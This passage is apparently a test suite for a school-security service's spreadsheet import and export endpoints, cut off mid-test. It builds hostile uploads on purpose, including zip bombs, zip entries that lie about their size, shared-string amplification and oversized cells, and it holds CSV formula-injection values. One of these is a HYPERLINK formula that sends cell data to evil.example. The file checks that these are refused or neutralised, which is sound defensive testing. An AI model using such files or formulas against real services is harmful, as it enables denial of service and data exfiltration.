import ExcelJS from 'exceljs';
import * as iconv from 'iconv-lite';
import JSZip from 'jszip';
import { ParsePool, readTable } from '../../src/infra/tabular/tabular';
import type { AppConfig } from '../../src/config/config';
import { createButtons, press, TestButton } from '../support/devices';
import { auth, seedMinimal, startApp, TestApp } from '../support/harness';

const MAX_ROWS = 2000;
const MAX_UNZIPPED = 8 * 1024 * 1024;

/** supertest: collect a binary response body. */
const binary = ((res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}) as never;

/** An XLSX of guards with `rows` data rows, its sheet XML optionally rewritten (dimension removed, padding added). */
async function guardsXlsx(rows: number, rewrite?: (sheetXml: string) => string): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Sheet1');
  ws.addRow(['licenceNo', 'name', 'schoolCode']);
  for (let i = 0; i < rows; i++) ws.addRow([`X-${String(i).padStart(7, '0')}`, '张伟', 'SA']);
  const buf = Buffer.from(await wb.xlsx.writeBuffer());
  if (!rewrite) return buf;
  const zip = await JSZip.loadAsync(buf);
  const path = 'xl/worksheets/sheet1.xml';
  zip.file(path, rewrite(await zip.file(path)!.async('string')));
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/** Rewrites the uncompressed size an entry declares (local header and central directory): a zip that lies about its size. */
function lieAboutSize(zip: Buffer, name: string, size: number): Buffer {
  const out = Buffer.from(zip);
  const nameBytes = Buffer.from(name);
  for (let i = 0; i < out.length - 46; i++) {
    const sig = out.readUInt32LE(i);
    if (sig === 0x04034b50 && out.subarray(i + 30, i + 30 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 22);
    if (sig === 0x02014b50 && out.subarray(i + 46, i + 46 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 24);
  }
  return out;
}

const GUARD_HEADERS = ['licenceNo', 'name', 'schoolCode', 'fullTime', 'phone', 'active'];

/**
 * The attack's file (A4): every data cell of `rows` rows × 6 columns points at one shared string of
 * `chars` characters. Small on disk (the sheet is the same short reference over and over), 6 × rows ×
 * chars characters once every cell is read.
 */
async function sharedStringBomb(rows: number, chars: number): Promise<Buffer> {
  const zip = await JSZip.loadAsync(await guardsXlsx(0));
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const strings = [...GUARD_HEADERS, '长'.repeat(chars)];
  zip.file(
    'xl/sharedStrings.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst ${ns} count="${strings.length}" uniqueCount="${strings.length}">${strings.map((x) => `<si><t>${x}</t></si>`).join('')}</sst>`,
  );
  const cells = (r: number, v: (i: number) => number) =>
    GUARD_HEADERS.map((_, i) => `<c r="${String.fromCharCode(65 + i)}${r}" t="s"><v>${v(i)}</v></c>`).join('');
  const body = [`<row r="1">${cells(1, (i) => i)}</row>`];
  for (let r = 2; r <= rows + 1; r++) body.push(`<row r="${r}">${cells(r, () => GUARD_HEADERS.length)}</row>`);
  zip.file(
    'xl/worksheets/sheet1.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet ${ns}><sheetData>${body.join('')}</sheetData></worksheet>`,
  );
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/**
 * Uploads cannot freeze or starve the service (issue 12 §3), CSV exports carry no formulas
 * (§4), and CSV text in a legacy code page is read in its encoding or refused, never stored as
 * mojibake (§13).
 */
describe('hostile and awkward uploads', () => {
  let t: TestApp;
  let admin: string;
  let staff: string;
  let staffId: string;
  let operator: string;
  let button: TestButton;

  beforeAll(async () => {
    t = await startApp({ import: { maxRows: MAX_ROWS, maxUnzippedBytes: MAX_UNZIPPED, maxFileBytes: 8 * 1024 * 1024 } });
    admin = (await t.userToken('admin')).token;
    const seed = await seedMinimal(t, admin);
    ({ token: staff, userId: staffId } = await t.userToken('school_security', seed.schoolA.id));
    operator = (await t.userToken('operator')).token;
    [button] = await createButtons(t, admin, seed.schoolB.id, 1, 'IMP');
  });
  afterAll(() => t.close());

  const upload = (kind: string, body: Buffer | string, query = '?dryRun=true', token = staff) =>
    t
      .http()
      .post(`/api/v1/import/${kind}${query}`)
      .set(auth(token))
      .attach('file', Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'), 'file');

  describe('limits are enforced while reading, not after', () => {
    it('refuses an XLSX whose declared dimension is past the row limit before reading its rows', async () => {
      const res = await upload('guards', await guardsXlsx(MAX_ROWS + 5));
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.TOO_MANY_ROWS', { maxRows: MAX_ROWS, rows: `>${MAX_ROWS}` }]);
    });

    it('stops at the row limit of an XLSX that does not declare its dimension', async () => {
      const file = await guardsXlsx(MAX_ROWS + 5, (xml) => xml.replace(/<dimension [^>]*\/>/, ''));
      const res = await upload('guards', file);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_MANY_ROWS']);
      // One row fewer is fine.
      expect((await upload('guards', await guardsXlsx(MAX_ROWS, (xml) => xml.replace(/<dimension [^>]*\/>/, '')))).body).toMatchObject({ rows: MAX_ROWS });
    });

    it('refuses a zip bomb by its declared size, and one that lies about it by what it inflates to', async () => {
      const padding = ' '.repeat(4 * MAX_UNZIPPED);
      const bomb = await guardsXlsx(3, (xml) => xml.replace('<sheetData>', `<sheetData>${padding}`));
      expect(bomb.length).toBeLessThan(200 * 1024); // a small upload…
      const res = await upload('guards', bomb);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
      const liar = lieAboutSize(bomb, 'xl/worksheets/sheet1.xml', 4096);
      const lied = await upload('guards', liar);
      expect([lied.status, lied.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
    });

    it('refuses a row wider than import.maxColumns', async () => {
      const res = await upload('guards', `licenceNo,name,schoolCode\nW-0001,张伟,SA${',x'.repeat(100)}\n`);
      expect([res.status, res.body.error.code, res.body.error.details.row]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT', 2]);
    });

    it('keeps answering other requests while a large file is imported', async () => {
      const lines = ['licenceNo,name,schoolCode', ...Array.from({ length: MAX_ROWS }, (_, i) => `L-${String(i).padStart(7, '0')},张伟${i},SA`)];
      const big = lines.join('\n').repeat(1); // MAX_ROWS rows: at the limit, accepted
      let done = false;
      const importing = upload('guards', big).then((r) => {
        done = true;
        return r;
      });
      let answered = 0;
      while (!done) {
        const res = await t.http().get('/health/live');
        if (res.status === 200 && !done) answered++;
      }
      expect((await importing).body).toMatchObject({ rows: MAX_ROWS, created: MAX_ROWS, dryRun: true });
      expect(answered).toBeGreaterThan(0);
    });

    it('refuses a file with 503 and Retry-After when every parser is busy and the queue is full', async () => {
      const pool = new ParsePool({ import: { ...t.config.import, parseWorkers: 1, parseQueue: 0 } } as AppConfig);
      try {
        const file = Buffer.from('licenceNo,name,schoolCode\nB-0001,张伟,SA\n');
        const first = pool.read(file);
        await expect(pool.read(file)).rejects.toMatchObject({ status: 503, code: 'IMPORT.BUSY', details: { retryAfterSeconds: expect.any(Number) } });
        await expect(first).resolves.toMatchObject({ rows: [{ line: 2, cells: ['B-0001', '张伟', 'SA'] }] });
        await expect(pool.read(file)).resolves.toMatchObject({ encoding: 'UTF-8' }); // free again
      } finally {
        await pool.onModuleDestroy();
      }
    });

    it('hands a table back in parts, one per event-loop turn, whole and in order (a 50,000-row table in one message held the loop ~70 ms)', async () => {
      const pool = new ParsePool({ import: { ...t.config.import, maxRows: 10_000 } } as AppConfig);
      try {
        const n = 5_001; // three parts of TABLE_CHUNK_ROWS (2,000), the last short
        const file = Buffer.from('licenceNo,name,schoolCode\n' + Array.from({ length: n }, (_, i) => `P-${i},张伟${i},SA`).join('\n') + '\n');
        let turns = 0;
        let counting = true;
        const tick = () => {
          turns++;
          if (counting) setImmediate(tick);
        };
        setImmediate(tick);
        const table = await pool.read(file);
        counting = false;
        expect(table.rows).toHaveLength(n);
        expect(table.rows.map((r) => r.line)).toEqual(Array.from({ length: n }, (_, i) => i + 2));
        expect(table.rows[n - 1].cells).toEqual([`P-${n - 1}`, `张伟${n - 1}`, 'SA']);
        expect(turns).toBeGreaterThanOrEqual(3); // the loop turned between the parts
      } finally {
        await pool.onModuleDestroy();
      }
    });
  });

  describe('a cell cannot grow past import.maxCellChars, and errors never echo it (attack F13)', () => {
    /** The attack's file: a valid XLSX whose header cell A1 is an inline string of `chars` characters, zipped small. */
    async function oneHugeCell(chars: number): Promise<Buffer> {
      const zip = await JSZip.loadAsync(await guardsXlsx(0));
      zip.file(
        'xl/worksheets/sheet1.xml',
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
          `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${'A'.repeat(chars)}</t></is></c></row></sheetData></worksheet>`,
      );
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
    }

    it('refuses a small XLSX holding one 5-million-character header cell (under the unzipped limit) while inflating it, with a short answer', async () => {
      const bomb = await oneHugeCell(5_000_000);
      expect(bomb.length).toBeLessThan(100 * 1024);
      const res = await upload('guards', bomb);
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: t.config.import.maxCellChars }]);
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
    });

    it('refuses a CSV cell past the limit naming its row and column, and one just within it reads', async () => {
      const max = t.config.import.maxCellChars;
      const res = await upload('guards', `licenceNo,name,schoolCode\nC-0001,${'张'.repeat(max + 1)},SA\n`);
      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: max, row: 2, column: 2 }]);
      const inRange = await readTable(Buffer.from(`licenceNo,name\nC-0001,${'张'.repeat(max)}\n`), { ...t.config.import });
      expect(inRange.rows[0]!.cells[1]).toHaveLength(max);
    });

    it('quotes a long unknown column back only as a short excerpt', async () => {
      const long = 'Q'.repeat(t.config.import.maxCellChars - 10);
      const res = await upload('guards', `licenceNo,name,schoolCode,${long}\nC-0002,张伟,SA,x\n`);
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.INVALID_HEADER']);
      expect(JSON.stringify(res.body)).toContain('Q'.repeat(50));
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
    });

    /** Holds `n` slots of a lane for the given user ids until the returned release is called (a long import or export of theirs). */
    const hold = (lane: 'import' | 'export', users: string[]) => {
      const pool = t.app.get(ParsePool);
      const releases: (() => void)[] = [];
      const held = users.map((u) => pool.exclusive(u, lane, () => new Promise<void>((r) => releases.push(r))));
      return async () => {
        releases.forEach((r) => r());
        await Promise.all(held);
      };
    };
    const others = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `${tag}-holder-${i}`);
    const csvFile = 'licenceNo,name,schoolCode\nC-0003,张伟,SA\n';

    it('answers 503 with Retry-After when import.maxConcurrent imports are running, and runs again once one ends; exports do not wait behind them', async () => {
      const release = hold('import', others(t.config.import.maxConcurrent, 'imp'));
      const busy = await upload('guards', csvFile);
      expect([busy.status, busy.body.error.code, busy.headers['retry-after']]).toEqual([503, 'IMPORT.BUSY', expect.stringMatching(/^\d+$/)]);
      // Exports are a lane of their own (attack pass 8 F2: an operator's export was refused while imports held the slots).
      expect((await t.http().get('/api/v1/export/guards').set(auth(admin))).status).toBe(200);
      await release();
      expect((await upload('guards', csvFile)).status).toBe(200);
    });

    it('answers 503 with Retry-After when import.maxConcurrent exports are running, and runs again once one ends; imports do not wait behind them', async () => {
      const release = hold('export', others(t.config.import.maxConcurrent, 'exp'));
      const busy = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff));
      expect([busy.status, busy.body.error.code, busy.headers['retry-after']]).toEqual([503, 'IMPORT.BUSY', expect.stringMatching(/^\d+$/)]);
      expect((await upload('guards', csvFile)).status).toBe(200);
      await release();
      // Free again; the XLSX is built in a worker thread and reads back.
      const file = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff)).buffer(true).parse(binary);
      expect(file.status).toBe(200);
      expect((await readTable(file.body as Buffer)).header).toContain('licenceNo');
    });

    it('lets one user run import.maxConcurrentPerUser imports/exports at once: their next is 429 IMPORT.BUSY_FOR_USER, and everyone else carries on (attack pass 8 F2)', async () => {
      expect(t.config.import.maxConcurrentPerUser).toBe(1);
      // The school account's long dry run holds one slot; the attack looped two to hold both.
      const release = hold('import', [staffId]);
      const second = await upload('guards', csvFile);
      expect([second.status, second.body.error.code, second.headers['retry-after']]).toEqual([429, 'IMPORT.BUSY_FOR_USER', expect.stringMatching(/^\d+$/)]);
      expect(second.body.error.details.retryAfterSeconds).toBeGreaterThan(0);
      // Its exports count with its imports…
      const export_ = await t.http().get('/api/v1/export/guards').set(auth(staff));
      expect([export_.status, export_.body.error?.code]).toEqual([429, 'IMPORT.BUSY_FOR_USER']);
      // …while an admin's import and an operator's export go through (they got 503 IMPORT.BUSY 10/10 in the attack).
      expect((await upload('guards', csvFile, '?dryRun=true', admin)).status).toBe(200);
      expect((await t.http().get('/api/v1/export/guards').set(auth(operator))).status).toBe(200);
      await release();
      expect((await upload('guards', csvFile)).status).toBe(200);
    });
  });

  describe('a file cannot expand past import.maxTotalChars (attack A4: shared-string amplification)', () => {
    it('refuses a small XLSX whose cells all reference one long shared string while reading it, and a press meanwhile is answered', async () => {
      const { maxTotalChars, maxCellChars } = t.config.import;
      const chars = maxCellChars - 1;
      const bomb = await sharedStringBomb(MAX_ROWS - 1, chars); // within the row, column, cell and unzipped limits
      expect(bomb.length).toBeLessThan(200 * 1024);
      expect(6 * (MAX_ROWS - 1) * chars).toBeGreaterThan(2 * maxTotalChars); // what it would expand to
      const importing = upload('guards', bomb);
      // A press of another school's button, sent while the file is being read: answered, within a bound
      // (press aborts after it) far below the 8-13 s the attack saw.
      const pressed = await press(t.baseUrl, button, 'a4-during-import', 5000);
      expect(pressed.status).toBe(201);
      const res = await importing;
      expect([res.status, res.body.error.code, res.body.error.details.maxTotalChars]).toEqual([400, 'IMPORT.TOO_MUCH_TEXT', maxTotalChars]);
      // Refused at the row where the running total passed the limit (per reference, header included), not after the whole sheet.
      const headerChars = GUARD_HEADERS.join('').length;
      expect(res.body.error.details.row).toBe(1 + Math.ceil((maxTotalChars - headerChars + 1) / (6 * chars)));
      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
      // The service is still fine afterwards (a new event of the same button joins its open incident: 200).
      expect((await press(t.baseUrl, button, 'a4-after-import', 5000)).status).toBe(200);
    });

    it('counts per reference in the reader too, and the biggest legitimate guard roster fits the default', async () => {
      const bomb = await sharedStringBomb(10, 100);
      const limits = { ...t.config.import, maxTotalChars: 6 * 100 * 4 + 100 }; // header + 4 rows fit, the 5th does not
      await expect(readTable(bomb, limits)).rejects.toMatchObject({ code: 'IMPORT.TOO_MUCH_TEXT', details: { row: 6 } });
      // The biggest legitimate sheet fits the default: 50,000 guards (the default import.maxRows), every
      // column at its longest valid value (the longest row, counted as the reader counts it, times the rows).
      const header = 'licenceNo,name,schoolCode,fullTime,phone,active';
      const longest = `${'L'.repeat(24)}-0000001,${'张'.repeat(50)},${'S'.repeat(32)},false,+${'1'.repeat(20)},false`;
      const read = await readTable(Buffer.from(`${header}\n${longest}\n`, 'utf8'), t.config.import);
      const count = (cells: string[]) => cells.reduce((n, c) => n + c.length, 0);
      expect(count(read.header) + 50_000 * count(read.rows[0]!.cells)).toBeLessThanOrEqual(t.config.import.maxTotalChars);
    });
  });

  describe('CSV exports carry no formulas', () => {
    const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)', '=1+2'];

    it('neutralises every cell a spreadsheet would run, and re-import strips the guard', async () => {
      const csv = ['licenceNo,name,schoolCode,phone', ...NAMES.map((n, i) => `F-000${i},"${n.replace(/"/g, '""')}",SA,+86-23-1234`)].join('\n');
      expect((await upload('guards', csv, '', admin)).body).toMatchObject({ created: NAMES.length });
      const exported = await t.http().get('/api/v1/export/guards').set(auth(admin)).buffer(true).parse(binary).expect(200);
      const table = await readTable(exported.body as Buffer, {
        maxRows: 100,
        maxColumns: 20,
        maxUnzippedBytes: 1e6,
        maxCellChars: 1000,
        maxTotalChars: 1e6,
        charsetMinScore: 0.8,
      });
      const raw = (exported.body as Buffer).toString('utf8');
      for (const n of NAMES) expect(raw).not.toMatch(new RegExp(`(^|,)"?${n.slice(0, 3).replace(/[+()=@-]/g, '\\$&')}`, 'm'));
      expect(raw).toContain(`'=HYPERLINK`);
      expect(raw).toContain(`'+86-23-1234`);
      // Re-import: the guard is stripped, nothing changes.
      expect((await upload('guards', exported.body as Buffer, '', admin)).body).toMatchObject({ created: 0, updated: 0 });
      const { rows } = await t.db.query(`SELECT name, phone FROM guards WHERE licence_no LIKE 'F-%' ORDER BY licence_no`);
      expect(rows.map((r) => r.name)).toEqual(NAMES);
      expect(rows[0].phone).toBe('+86-23-1234');
      expect(table.rows.length).toBeGreaterThanOrEqual(NAMES.length);
    });
  });

  describe('CSV text encodings', () => {
    const csv = 'licenceNo,name,schoolCode\nE-0001,围墙,SA\nE-0002,校园,SA\nE-0003,小学楼,SA\n';

    it("reads the issue's GBK file without BOM (bytes that are also valid UTF-8) as GBK, and shows it in the dry run", async () => {
      const gbk = iconv.encode(csv, 'gbk');
      expect(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk)).not.toThrow(); // the trap: valid UTF-8
      const res = await upload('guards', gbk).expect(200);
      expect(res.body).toMatchObject({ dryRun: true, rows: 3, encoding: 'GB18030' });
      expect(res.body.preview).toEqual({
        header: ['licenceNo', 'name', 'schoolCode'],
        rows: [
          { line: 2, cells: ['E-0001', '围墙', 'SA'] },
          { line: 3, cells: ['E-0002', '校园', 'SA'] },
          { line: 4, cells: ['E-0003', '小学楼', 'SA'] },
        ],
      });
      await upload('guards', gbk, '').expect(200);
      const { rows } = await t.db.query(`SELECT name FROM guards WHERE licence_no LIKE 'E-%' ORDER BY licence_no`);
      expect(rows.map((r) => r.name)).toEqual(['围墙', '校园', '小学楼']);
    });

    it('reads UTF-8 with and without a BOM', async () => {
      const plain = (await upload('guards', Buffer.from(csv, 'utf8')).expect(200)).body;
      expect([plain.encoding, plain.preview.rows[0].cells]).toEqual(['UTF-8', ['E-0001', '围墙', 'SA']]);
      expect((await upload('guards', '\uFEFF' + csv).expect(200)).body.encoding).toBe('UTF-8 (BOM)');
    });

    it('refuses, asking for UTF-8, when the encoding cannot be told or is not one we read', async () => {
      const cases = {
        big5: iconv.encode(csv.replace('围墙', '圍牆'), 'big5'),
        shiftJis: iconv.encode(csv.replace('围墙', '東京の学校'), 'shift_jis'),
        ambiguous: Buffer.from('licenceNo,name,schoolCode\nE-0009,Café Système,SA\n', 'utf8'),
      };
      for (const [what, bytes] of Object.entries(cases)) {
        const res = await upload('guards', bytes);
        expect([what, res.status, res.body.error?.code]).toEqual([what, 400, 'IMPORT.UNSURE_ENCODING']);
        expect(res.body.error.message).toContain('UTF-8');
      }
      const { rows } = await t.db.query(`SELECT count(*)::int AS n FROM guards WHERE licence_no = 'E-0009'`);
      expect(rows[0].n).toBe(0);
    });

    const guardsStored = async (prefix: string) =>
      (await t.db.query(`SELECT name FROM guards WHERE licence_no LIKE $1 ORDER BY licence_no`, [`${prefix}%`])).rows.map((r) => r.name as string);

    it('takes a BOM as a claim: a UTF-8 BOM before GB18030 bytes is refused naming the first invalid byte and its line, never stored as U+FFFD (attack pass 8 F5)', async () => {
      const header = 'licenceNo,name,schoolCode\n';
      const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode(`${header}BGB-0001,张三丰,SA\n`, 'gb18030')]);
      for (const query of ['?dryRun=true', '']) {
        const res = await upload('guards', bytes, query);
        expect([res.status, res.body.error?.code]).toEqual([400, 'IMPORT.UNSURE_ENCODING']);
        // The first byte of 张 (GB18030 D5 C5) after the BOM, the header and "BGB-0001,".
        expect(res.body.error.details).toEqual({ encoding: 'UTF-8 (BOM)', byteOffset: 3 + header.length + 'BGB-0001,'.length, line: 2 });
        expect(res.body.error.message).toContain('第 2 行');
        expect(res.body.error.message).toContain('UTF-8');
      }
      expect(await guardsStored('BGB-')).toEqual([]);
      // The same text really in UTF-8 behind its BOM imports.
      await upload('guards', Buffer.from(`\uFEFF${header}BGB-0002,张三丰,SA\n`, 'utf8'), '').expect(200);
      expect(await guardsStored('BGB-')).toEqual(['张三丰']);
    });

    it('checks a UTF-16 BOM the same way: well-formed UTF-16 is read, an unpaired surrogate or a lone last byte is refused with its line', async () => {
      const text = '\uFEFFlicenceNo,name,schoolCode\nU16-0001,张三丰,SA\nU16-0002,李四,SA\n';
      const le = Buffer.from(text, 'utf16le');
      const ok = await upload('guards', le).expect(200);
      expect([ok.body.encoding, ok.body.preview.rows.map((r: { cells: string[] }) => r.cells[1])]).toEqual(['UTF-16LE (BOM)', ['张三丰', '李四']]);
      const be = Buffer.from(le);
      be.swap16();
      expect((await upload('guards', be).expect(200)).body.encoding).toBe('UTF-16BE (BOM)');
      // A high surrogate followed by 李 (line 3), and a file cut one byte into its last character.
      const lone = Buffer.from(text.replace('李', '\uD800李'), 'utf16le');
      const cut = le.subarray(0, le.length - 1);
      for (const [bytes, line, offset] of [
        [lone, 3, Buffer.from(text.slice(0, text.indexOf('李')), 'utf16le').length],
        [cut, 3, le.length - 2],
      ] as const) {
        const res = await upload('guards', bytes);
        expect([res.status, res.body.error?.code, res.body.error?.details]).toEqual([
          400,
          'IMPORT.UNSURE_ENCODING',
          { encoding: 'UTF-16LE (BOM)', byteOffset: offset, line },
        ]);
      }
    });

    it('refuses a GBK file with a byte that is no GB18030 character instead of decoding it as U+FFFD', async () => {
      const good = iconv.encode(csv, 'gbk');
      const at = good.indexOf(iconv.encode('校园', 'gbk'));
      const bad = Buffer.concat([good.subarray(0, at), Buffer.from([0xff]), good.subarray(at)]);
      const res = await upload('guards', bad);
      expect([res.status, res.body.error?.code, res.body.error?.details]).toEqual([
        400,
        'IMPORT.UNSURE_ENCODING',
        { encoding: 'GB18030', byteOffset: at, line: 3 },
      ]);
    });
  });
  describe('XLSX cells that are not text are read deliberately, never as "[object Object]" (attack pass 8 F6)', () => {
    /** An XLSX whose first sheet's rows are the given `<row>` XML (inline strings, formulas… as other writers save them). */
    async function sheetXlsx(rowsXml: string[]): Promise<Buffer> {
      const base = await guardsXlsx(0);
      const zip = await JSZip.loadAsync(base);
      const path = 'xl/worksheets/sheet1.xml';
      const xml = await zip.file(path)!.async('string');
      zip.file(
        path,
        xml.replace(/<dimension [^>]*\/>/, '').replace(/<sheetData>[\s\S]*<\/sheetData>|<sheetData\/>/, `<sheetData>${rowsXml.join('')}</sheetData>`),
      );
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    }
    const str = (ref: string, s: string) => `<c r="${ref}" t="inlineStr"><is><t>${s}</t></is></c>`;
    const header = `<row r="1">${str('A1', 'licenceNo')}${str('B1', 'name')}${str('C1', 'schoolCode')}${str('D1', 'fullTime')}${str('E1', 'phone')}</row>`;
    const errorsOf = (res: { body: { error: { details: { errors: { row: number; column: string; reason: string }[] } } } }) =>
      res.body.error.details.errors.map((e) => [e.row, e.column, e.reason]);

    it('reports a formula without a cached result as a row error naming its column, and reads one with a result as that result', async () => {
      const rows: Record<string, ExcelJS.CellValue[]> = {
        // Written by a script: formulas with no cached value (the tester's file)…
        noResult: ['FX-0001', { formula: 'CONCAT("张","三")' } as ExcelJS.CellFormulaValue, 'SA', { formula: 'TRUE()' } as ExcelJS.CellFormulaValue],
        // …the same with their values, as Excel saves them; rich text and a hyperlink.
        result: [
          'FX-0002',
          { formula: 'CONCAT("李","四")', result: '李四' } as ExcelJS.CellFormulaValue,
          'SA',
          { formula: 'TRUE()', result: true } as ExcelJS.CellFormulaValue,
        ],
        rich: [
          'FX-0003',
          { richText: [{ text: '王' }, { font: { bold: true }, text: '五' }] },
          'SA',
          false,
          { text: '13800000000', hyperlink: 'tel:13800000000' },
        ],
        error: ['FX-0004', { error: '#N/A' } as ExcelJS.CellErrorValue, 'SA'],
        errorResult: ['FX-0005', { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellFormulaValue, 'SA'],
      };
      const book = async (which: string[]) => {
        const wb = new ExcelJS.Workbook();
        const ws = wb.addWorksheet('Sheet1');
        ws.addRow(GUARD_HEADERS);
        for (const k of which) ws.addRow(rows[k]);
        return Buffer.from(await wb.xlsx.writeBuffer());
      };
      const res = await upload('guards', await book(['noResult', 'result', 'rich', 'error', 'errorResult']));
      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.INVALID_ROWS']);
      expect(JSON.stringify(res.body)).not.toContain('[object Object]');
      expect(errorsOf(res)).toEqual([
        [2, 'name', '公式没有计算结果，请在 Excel 中重新计算后保存'],
        [2, 'fullTime', '公式没有计算结果，请在 Excel 中重新计算后保存'],
        [5, 'name', '单元格是错误值 #N/A，请改正后保存'],
        [6, 'name', '单元格是错误值 #DIV/0!，请改正后保存'],
      ]);
      // The good rows alone: the cached result, the rich text's and the hyperlink's text.
      const ok = await upload('guards', await book(['result', 'rich']), '').expect(200);
      expect(ok.body).toMatchObject({ rows: 2, created: 2 });
      const { rows: stored } = await t.db.query(`SELECT licence_no, name, full_time, phone FROM guards WHERE licence_no LIKE 'FX-%' ORDER BY licence_no`);
      expect(stored).toEqual([
        { licence_no: 'FX-0002', name: '李四', full_time: true, phone: '' },
        { licence_no: 'FX-0003', name: '王五', full_time: false, phone: '13800000000' },
      ]);
    });

    it('reads shared formulas by their cached value, joins inline rich-text runs, and reports ISO date cells and empty formulas', async () => {
      const file = await sheetXlsx([
        header,
        // openpyxl's inline rich text, with a phonetic guide that is not part of the text; a shared formula's master.
        `<row r="2">${str('A2', 'SF-0001')}<c r="B2" t="inlineStr"><is><r><t>张</t></r><r><rPr><b/></rPr><t xml:space="preserve">三丰</t></r><rPh sb="0" eb="1"><t>zhang</t></rPh></is></c>${str('C2', 'SA')}<c r="D2" t="b"><f t="shared" ref="D2:D4" si="0">TRUE()</f><v>1</v></c></row>`,
        // A formula giving text, and the shared formula's second cell with its value.
        `<row r="3">${str('A3', 'SF-0002')}<c r="B3" t="str"><f>"李"&amp;"四"</f><v>李四</v></c>${str('C3', 'SA')}<c r="D3" t="b"><f t="shared" si="0"/><v>0</v></c><c r="E3"><v></v></c></row>`,
        // The shared formula's third cell saved without a value; an ISO 8601 date cell (t="d") where a name goes.
        `<row r="4">${str('A4', 'SF-0003')}${str('B4', '王五')}${str('C4', 'SA')}<c r="D4" t="b"><f t="shared" si="0"/></c></row>`,
        `<row r="5">${str('A5', 'SF-0004')}<c r="B5" t="d"><v>2026-09-01T00:00:00Z</v></c>${str('C5', 'SA')}</row>`,
      ]);
      const table = await readTable(file);
      expect(table.rows.map((r) => r.cells)).toEqual([
        ['SF-0001', '张三丰', 'SA', 'true'],
        ['SF-0002', '李四', 'SA', 'false'],
        ['SF-0003', '王五', 'SA', ''],
        ['SF-0004', '2026-09-01', 'SA'],
      ]);
      expect(table.rows.map((r) => r.marks)).toEqual([undefined, undefined, { 3: { kind: 'formula' } }, { 1: { kind: 'date' } }]);
      const res = await upload('guards', file);
      expect(errorsOf(res)).toEqual([
        [4, 'fullTime', '公式没有计算结果，请在 Excel 中重新计算后保存'],
        [5, 'name', expect.stringContaining('Excel 把该单元格存成了日期（2026-09-01）')],
      ]);
    });

    it('takes dates and times per column: a time where a time goes, a holiday date, and refuses what Excel made of 1-5 or a licence number', async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Sheet1');
      const cols = [
        'code',
        'name',
        'type',
        'weekdays',
        'arrivalStart',
        'arrivalEnd',
        'dismissalStart',
        'dismissalEnd',
        'schoolHoursStart',
        'schoolHoursEnd',
        'holidays',
      ];
      ws.addRow(cols);
      const at = (h: number, m: number) => new Date(Date.UTC(1899, 11, 30, h, m));
      const times = [at(7, 30), at(8, 10), at(16, 30), at(17, 30), at(8, 0), at(17, 0)];
      ws.addRow(['DT-1', '日期小学', 'primary', '1-5', ...times, new Date(Date.UTC(2026, 9, 1))]);
      // Excel turned "1-5" into 5 January and a time cell holds a date.
      ws.addRow(['DT-2', '日期中学', 'middle', new Date(Date.UTC(2026, 0, 5)), new Date(Date.UTC(2026, 8, 1)), ...times.slice(1), '']);
      for (let c = 5; c <= 10; c++) ws.getColumn(c).numFmt = 'hh:mm';
      ws.getColumn(11).numFmt = 'yyyy-mm-dd';
      ws.getCell('D3').numFmt = 'm-d';
      ws.getCell('E3').numFmt = 'yyyy-mm-dd';
      const guards = new ExcelJS.Workbook();
      const gs = guards.addWorksheet('Sheet1');
      gs.addRow(GUARD_HEADERS);
      // 2021-12 typed as a licence number became December 2021; an 18-digit number keeps only 15 digits in Excel.
      gs.addRow([new Date(Date.UTC(2021, 11, 1)), '张伟', 'SA']);
      gs.addRow([Number('123456789012345678'), '李四', 'SA']); // as Excel holds it: 123456789012345680
      gs.getCell('A2').numFmt = 'yyyy-mm';
      const file = Buffer.from(await wb.xlsx.writeBuffer());
      const res = await upload('schools', file, '?dryRun=true', admin);
      expect(errorsOf(res)).toEqual([
        [3, 'weekdays', expect.stringContaining('Excel 把该单元格存成了日期（2026-01-05）')],
        [3, 'arrivalStart', expect.stringContaining('该列应为时间')],
      ]);
      const table = await readTable(file);
